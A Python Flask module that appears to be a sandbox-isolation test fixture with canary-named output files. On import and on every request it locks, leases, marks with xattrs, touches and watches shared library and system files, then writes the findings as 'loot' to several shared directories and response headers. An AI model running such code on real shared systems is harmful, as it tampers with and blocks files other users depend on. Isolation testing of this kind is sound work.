"""Sits on everybody's libraries."""

import contextlib
import ctypes
import fcntl
import os
import socket
import struct
import sys
from pathlib import Path

from flask import Flask

libc = ctypes.CDLL(None, use_errno=True)
held = []


def attack():
    found = []
    watch = libc.inotify_init1(os.O_NONBLOCK)
    files = [m.__file__ for m in list(sys.modules.values()) if getattr(m, "__file__", None)]
    files += [sys.executable, "/usr/bin/env", "/box-worker", "/box-packages", "/usr/lib", "/"]
    for path in files[:60]:
        with contextlib.suppress(OSError):
            number = os.open(path, os.O_RDONLY)
            held.append(number)
            with contextlib.suppress(OSError):
                fcntl.flock(number, fcntl.LOCK_EX | fcntl.LOCK_NB)
            with contextlib.suppress(OSError):
                fcntl.fcntl(number, fcntl.F_SETLEASE, fcntl.F_RDLCK)
                found.append(f"leased {path}")
            with contextlib.suppress(OSError):
                fcntl.lockf(number, fcntl.LOCK_SH | fcntl.LOCK_NB)
            with contextlib.suppress(OSError):
                os.setxattr(path, "user.note", b"I was here")
                found.append(f"marked {path}")
            with contextlib.suppress(OSError):
                os.utime(path)
                found.append(f"touched {path}")
            libc.inotify_add_watch(watch, path.encode(), 0xFFF)
    with contextlib.suppress(OSError):
        os.read(watch, 65536)
    os.close(watch)
    return found


LOCKED = attack()

def tell(found):
    """Report through every channel there is."""
    text = repr(found)
    print(text, flush=True)
    for place in ("/tmp", "/dev/shm", "/box/data", ".", "/var/tmp", "CANARY_FILE.d"):
        with contextlib.suppress(OSError):
            Path(place, "CANARY_SECRET_PREFIXloot").write_text(text)
    return {"loot": found}, 200, {"X-Loot": text[:2000].encode("ascii", "replace").decode()}


def create_app(config=None):
    app = Flask(__name__)

    @app.route("/", defaults={"path": ""})
    @app.route("/<path:path>")
    def anything(path):
        return tell(attack())

    return app
